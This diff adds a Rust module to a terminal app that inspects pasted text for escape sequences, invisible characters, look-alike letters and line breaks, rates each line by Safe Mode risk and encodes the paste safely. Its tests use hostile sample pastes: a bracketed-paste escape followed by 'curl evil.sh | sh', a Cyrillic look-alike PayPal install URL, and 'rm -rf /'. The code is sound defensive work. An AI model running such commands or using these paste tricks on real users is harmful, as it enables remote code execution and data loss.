@@ -0,0 +1,498 @@
+//! Paste inspection
+//!
+//! Pasted text is typed into whatever runs in the terminal: a newline runs
+//! the line at once, an escape sequence can end bracketed paste early or
+//! drive the terminal, and look-alike letters can hide a different host or
+//! command. [`inspect`] lists what is suspicious about a paste, and
+//! [`PasteInspection::analyze`] judges each line by its Safe Mode rules, so
+//! the UI can ask before sending. Dry-running a line to see what it would
+//! touch is slow, so it is left for the [`PasteInspection::risky_lines`] the
+//! UI shows. [`encode`] turns the accepted text into the bytes written to
+//! the PTY.
+
+use crate::safe_mode::{CommandPreview, RiskLevel, SafeMode};
+use std::path::Path;
+
+/// Start of a bracketed paste
+pub const PASTE_START: &[u8] = b"\x1b[200~";
+/// End of a bracketed paste
+pub const PASTE_END: &[u8] = b"\x1b[201~";
+
+/// Something suspicious about a paste
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum PasteIssue {
+    /// More than one line
+    Multiline { lines: usize },
+    /// A line break runs the line as soon as it arrives (no bracketed paste)
+    RunsImmediately,
+    /// Control characters other than tab and line breaks
+    ControlCharacters { count: usize },
+    /// Escape sequences, which can end bracketed paste or drive the terminal
+    EscapeSequences { count: usize },
+    /// Zero-width characters and bidirectional overrides
+    InvisibleCharacters { count: usize },
+    /// Characters that look like ASCII ones, such as Cyrillic `а` or `–`
+    Homoglyphs { found: Vec<(char, char)> },
+}
+
+impl PasteIssue {
+    /// One-line description for the review dialog
+    pub fn describe(&self) -> String {
+        match self {
+            Self::Multiline { lines } => format!("{} lines will be pasted", lines),
+            Self::RunsImmediately => {
+                "Line breaks will run each line as soon as it is pasted".to_string()
+            }
+            Self::ControlCharacters { count } => {
+                format!("{} hidden control character(s)", count)
+            }
+            Self::EscapeSequences { count } => format!(
+                "{} escape sequence(s) that could control the terminal",
+                count
+            ),
+            Self::InvisibleCharacters { count } => {
+                format!("{} invisible character(s)", count)
+            }
+            Self::Homoglyphs { found } => {
+                let pairs: Vec<String> = found
+                    .iter()
+                    .map(|(c, looks_like)| {
+                        format!("'{}' (U+{:04X}) looks like '{}'", c, *c as u32, looks_like)
+                    })
+                    .collect();
+                format!("Look-alike characters: {}", pairs.join(", "))
+            }
+        }
+    }
+
+    /// Whether the issue hides what will run, as opposed to merely being
+    /// more than one line
+    pub fn is_hidden(&self) -> bool {
+        !matches!(self, Self::Multiline { .. } | Self::RunsImmediately)
+    }
+}
+
+/// One pasted line
+#[derive(Debug, Clone)]
+pub struct PasteLine {
+    /// The line with hidden characters made visible
+    pub visible: String,
+    /// Safe Mode's view of the line, once analyzed; blank lines have none
+    pub preview: Option<CommandPreview>,
+}
+
+/// What a paste contains
+#[derive(Debug, Clone)]
+pub struct PasteInspection {
+    /// The text as pasted
+    pub text: String,
+    /// Suspicious things found, in a fixed order
+    pub issues: Vec<PasteIssue>,
+    /// Each line of the paste
+    pub lines: Vec<PasteLine>,
+    /// Worst Safe Mode risk of any line
+    pub risk: RiskLevel,
+}
+
+impl PasteInspection {
+    /// Whether the paste has more than one line
+    pub fn is_multiline(&self) -> bool {
+        self.issues
+            .iter()
+            .any(|issue| matches!(issue, PasteIssue::Multiline { .. }))
+    }
+
+    /// Whether a line break would run a line without the user pressing Enter
+    pub fn runs_immediately(&self) -> bool {
+        self.issues.contains(&PasteIssue::RunsImmediately)
+    }
+
+    /// Whether the paste holds characters that hide what will run
+    pub fn has_hidden_content(&self) -> bool {
+        self.issues.iter().any(PasteIssue::is_hidden)
+    }
+
+    /// Judge each line by its Safe Mode rules, without dry-running it;
+    /// a local `cwd` adds its project's rules
+    pub fn analyze(&mut self, safe_mode: &SafeMode, cwd: Option<&Path>, profile: Option<&str>) {
+        let mut risk = RiskLevel::Safe;
+        for (line, raw) in self.lines.iter_mut().zip(split_lines(&self.text)) {
+            let command = strip_hidden(raw);
+            if command.trim().is_empty() {
+                continue;
+            }
+            let preview = safe_mode.classify_with_profile(&command, cwd, profile);
+            risk = risk.worst(preview.risk);
+            line.preview = Some(preview);
+        }
+        self.risk = risk;
+    }
+
+    /// Index and command of each analyzed line that is not safe
+    pub fn risky_lines(&self) -> Vec<(usize, String)> {
+        self.lines
+            .iter()
+            .zip(split_lines(&self.text))
+            .enumerate()
+            .filter(|(_, (line, _))| {
+                line.preview
+                    .as_ref()
+                    .is_some_and(|p| p.risk != RiskLevel::Safe)
+            })
+            .map(|(index, (_, raw))| (index, strip_hidden(raw)))
+            .collect()
+    }
+}
+
+/// Inspect `text` about to be pasted; `bracketed` is whether it will be sent
+/// as a bracketed paste
+pub fn inspect(text: &str, bracketed: bool) -> PasteInspection {
+    let lines: Vec<&str> = split_lines(text);
+    let mut issues = Vec::new();
+
+    if lines.len() > 1 {
+        issues.push(PasteIssue::Multiline { lines: lines.len() });
+    }
+    if !bracketed && text.contains(['\n', '\r']) {
+        issues.push(PasteIssue::RunsImmediately);
+    }
+
+    let escapes = text.matches('\x1b').count();
+    let controls = text
+        .chars()
+        .filter(|&c| is_control(c) && c != '\x1b')
+        .count();
+    let invisible = text.chars().filter(|&c| is_invisible(c)).count();
+    if controls > 0 {
+        issues.push(PasteIssue::ControlCharacters { count: controls });
+    }
+    if escapes > 0 {
+        issues.push(PasteIssue::EscapeSequences { count: escapes });
+    }
+    if invisible > 0 {
+        issues.push(PasteIssue::InvisibleCharacters { count: invisible });
+    }
+
+    let mut found: Vec<(char, char)> = Vec::new();
+    for word in text.split_whitespace() {
+        let mixed = word.chars().any(|c| c.is_ascii_alphanumeric());
+        for c in word.chars() {
+            let Some(looks_like) = homoglyph(c, mixed) else {
+                continue;
+            };
+            if !found.iter().any(|(seen, _)| *seen == c) {
+                found.push((c, looks_like));
+            }
+        }
+    }
+    if !found.is_empty() {
+        issues.push(PasteIssue::Homoglyphs { found });
+    }
+
+    PasteInspection {
+        text: text.to_string(),
+        issues,
+        lines: lines
+            .iter()
+            .map(|line| PasteLine {
+                visible: make_visible(line),
+                preview: None,
+            })
+            .collect(),
+        risk: RiskLevel::Safe,
+    }
+}
+
+/// `text` without control characters, escape sequences and invisible
+/// characters; tabs and line breaks are kept
+pub fn strip_hidden(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c == '\x1b' {
+            skip_escape(&mut chars);
+        } else if matches!(c, '\t' | '\n' | '\r') || !(is_control(c) || is_invisible(c)) {
+            out.push(c);
+        }
+    }
+    out
+}
+
+/// Bytes to write to the PTY for pasting `text`. Line breaks become carriage
+/// returns, as if typed; a bracketed paste is wrapped in its markers, and
+/// markers inside the text are dropped so it cannot end the paste early.
+pub fn encode(text: &str, bracketed: bool) -> Vec<u8> {
+    let text = text.replace("\r\n", "\r").replace('\n', "\r");
+    if !bracketed {
+        return text.into_bytes();
+    }
+    let body = text.replace("\x1b[200~", "").replace("\x1b[201~", "");
+    let mut bytes = Vec::with_capacity(body.len() + PASTE_START.len() + PASTE_END.len());
+    bytes.extend_from_slice(PASTE_START);
+    bytes.extend_from_slice(body.as_bytes());
+    bytes.extend_from_slice(PASTE_END);
+    bytes
+}
+
+/// Lines of a paste, without the break after the last one
+fn split_lines(text: &str) -> Vec<&str> {
+    let trimmed = text.trim_end_matches(['\n', '\r']);
+    if trimmed.is_empty() {
+        return vec![""];
+    }
+    trimmed
+        .split("\r\n")
+        .flat_map(|line| line.split(['\n', '\r']))
+        .collect()
+}
+
+/// C0 and C1 control characters, except tab and line breaks
+fn is_control(c: char) -> bool {
+    c.is_control() && !matches!(c, '\t' | '\n' | '\r')
+}
+
+/// Characters that take no space or reorder the text around them
+fn is_invisible(c: char) -> bool {
+    matches!(
+        c,
+        '\u{00AD}'
+            | '\u{180E}'
+            | '\u{200B}'..='\u{200F}'
+            | '\u{202A}'..='\u{202E}'
+            | '\u{2060}'..='\u{2064}'
+            | '\u{2066}'..='\u{2069}'
+            | '\u{FEFF}'
+    )
+}
+
+/// The ASCII character `c` passes for. Letters only count in words that
+/// also hold ASCII letters or digits (`mixed`), so text in other scripts is
+/// not flagged; dashes, quotes and full-width forms always count.
+fn homoglyph(c: char, mixed: bool) -> Option<char> {
+    let punctuation = match c {
+        '\u{2010}'..='\u{2015}' | '\u{2212}' | '\u{FE63}' => Some('-'),
+        '\u{2018}' | '\u{2019}' | '\u{201B}' | '\u{2032}' => Some('\''),
+        '\u{201C}' | '\u{201D}' | '\u{201F}' | '\u{2033}' => Some('"'),
+        '\u{2044}' | '\u{2215}' => Some('/'),
+        '\u{FF01}'..='\u{FF5E}' => char::from_u32(c as u32 - 0xFEE0),
+        _ => None,
+    };
+    if punctuation.is_some() || !mixed {
+        return punctuation;
+    }
+    let letter = match c {
+        // Cyrillic
+        'а' => 'a',
+        'в' => 'B',
+        'е' => 'e',
+        'о' => 'o',
+        'р' => 'p',
+        'с' => 'c',
+        'у' => 'y',
+        'х' => 'x',
+        'і' => 'i',
+        'ј' => 'j',
+        'ѕ' => 's',
+        'ԁ' => 'd',
+        'һ' => 'h',
+        'ԛ' => 'q',
+        'ԝ' => 'w',
+        'А' => 'A',
+        'В' => 'B',
+        'Е' => 'E',
+        'К' => 'K',
+        'М' => 'M',
+        'Н' => 'H',
+        'О' => 'O',
+        'Р' => 'P',
+        'С' => 'C',
+        'Т' => 'T',
+        'Х' => 'X',
+        // Greek
+        'α' => 'a',
+        'ο' => 'o',
+        'ν' => 'v',
+        'ρ' => 'p',
+        'Α' => 'A',
+        'Β' => 'B',
+        'Ε' => 'E',
+        'Ζ' => 'Z',
+        'Η' => 'H',
+        'Ι' => 'I',
+        'Κ' => 'K',
+        'Μ' => 'M',
+        'Ν' => 'N',
+        'Ο' => 'O',
+        'Ρ' => 'P',
+        'Τ' => 'T',
+        'Υ' => 'Y',
+        'Χ' => 'X',
+        _ => return None,
+    };
+    Some(letter)
+}
+
+/// Show control and invisible characters as `^X` or `<U+XXXX>`
+fn make_visible(line: &str) -> String {
+    let mut out = String::with_capacity(line.len());
+    for c in line.chars() {
+        if (c as u32) < 0x20 && c != '\t' {
+            out.push('^');
+            out.push((c as u8 + b'@') as char);
+        } else if c == '\x7f' {
+            out.push_str("^?");
+        } else if is_control(c) || is_invisible(c) {
+            out.push_str(&format!("<U+{:04X}>", c as u32));
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+/// Skip the rest of an escape sequence whose ESC was just read
+fn skip_escape(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
+    match chars.next() {
+        // CSI: parameters and intermediates up to a final byte
+        Some('[') => {
+            for c in chars.by_ref() {
+                if ('\u{40}'..='\u{7e}').contains(&c) {
+                    break;
+                }
+            }
+        }
+        // OSC, DCS, APC, PM: up to BEL or ST
+        Some(']' | 'P' | '_' | '^') => {
+            while let Some(c) = chars.next() {
+                if c == '\x07' {
+                    break;
+                }
+                if c == '\x1b' && chars.peek() == Some(&'\\') {
+                    chars.next();
+                    break;
+                }
+            }
+        }
+        _ => {}
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_plain_single_line() {
+        let inspection = inspect("ls -la", false);
+        assert!(inspection.issues.is_empty());
+        assert_eq!(inspection.lines.len(), 1);
+    }
+
+    #[test]
+    fn test_line_breaks() {
+        let inspection = inspect("echo one\necho two\n", false);
+        assert_eq!(
+            inspection.issues,
+            vec![
+                PasteIssue::Multiline { lines: 2 },
+                PasteIssue::RunsImmediately
+            ]
+        );
+
+        // A trailing newline alone runs the line too
+        assert_eq!(
+            inspect("make install\n", false).issues,
+            vec![PasteIssue::RunsImmediately]
+        );
+        // Bracketed paste holds lines until Enter
+        assert_eq!(
+            inspect("echo one\r\necho two", true).issues,
+            vec![PasteIssue::Multiline { lines: 2 }]
+        );
+    }
+
+    #[test]
+    fn test_hidden_characters() {
+        let text = "echo hi\x1b[201~; curl evil.sh | sh\u{200B}\x08";
+        let inspection = inspect(text, true);
+        assert!(inspection.has_hidden_content());
+        assert!(inspection
+            .issues
+            .contains(&PasteIssue::EscapeSequences { count: 1 }));
+        assert!(inspection
+            .issues
+            .contains(&PasteIssue::ControlCharacters { count: 1 }));
+        assert!(inspection
+            .issues
+            .contains(&PasteIssue::InvisibleCharacters { count: 1 }));
+        assert_eq!(
+            inspection.lines[0].visible,
+            "echo hi^[[201~; curl evil.sh | sh<U+200B>^H"
+        );
+        assert_eq!(strip_hidden(text), "echo hi; curl evil.sh | sh");
+        assert_eq!(strip_hidden("a\x1b]0;title\x07b\tc"), "ab\tc");
+    }
+
+    #[test]
+    fn test_homoglyphs() {
+        // Cyrillic 'а' in a host name
+        let inspection = inspect("curl https://pаypal.com/install.sh", false);
+        assert_eq!(
+            inspection.issues,
+            vec![PasteIssue::Homoglyphs {
+                found: vec![('а', 'a')]
+            }]
+        );
+        // An en dash copied from a web page
+        assert!(inspect("rm \u{2013}rf build", false).has_hidden_content());
+        // Text in another script is left alone
+        assert!(inspect("echo привет", false).issues.is_empty());
+    }
+
+    #[test]
+    fn test_analyze_lines() {
+        let mut inspection = inspect("ls\n\nrm -rf /\n", true);
+        inspection.analyze(&SafeMode::new(), Some(Path::new("/tmp")), None);
+        assert_eq!(inspection.lines.len(), 3);
+        assert!(inspection.lines[1].preview.is_none());
+        assert_eq!(
+            inspection.lines[0].preview.as_ref().unwrap().risk,
+            RiskLevel::Safe
+        );
+        assert_eq!(inspection.risk, RiskLevel::Danger);
+        assert_eq!(inspection.risky_lines(), vec![(2, "rm -rf /".to_string())]);
+    }
+
+    #[test]
+    fn test_analyze_skips_dry_run() {
+        let dir = std::env::temp_dir().join(format!("corgiterm-paste-{}", uuid::Uuid::new_v4()));
+        std::fs::create_dir_all(dir.join("build")).unwrap();
+        std::fs::write(dir.join("build/out.o"), b"object").unwrap();
+
+        let mut inspection = inspect("rm -rf build", true);
+        inspection.analyze(&SafeMode::new(), Some(&dir), None);
+        let preview = inspection.lines[0].preview.as_ref().unwrap();
+        assert_eq!(preview.affected_count, None);
+
+        // The UI dry-runs the risky lines it shows, off its own thread
+        let (_, command) = inspection.risky_lines().remove(0);
+        let safe_mode = SafeMode::new().clone();
+        let cwd = dir.clone();
+        let preview =
+            std::thread::spawn(move || safe_mode.analyze_with_profile(&command, &cwd, None))
+                .join()
+                .unwrap();
+        assert!(preview.affected_count.is_some());
+
+        let _ = std::fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn test_encode() {
+        assert_eq!(encode("a\nb\r\n", false), b"a\rb\r".to_vec());
+        assert_eq!(
+            encode("a\x1b[201~b", true),
+            b"\x1b[200~ab\x1b[201~".to_vec()
+        );
+    }
+}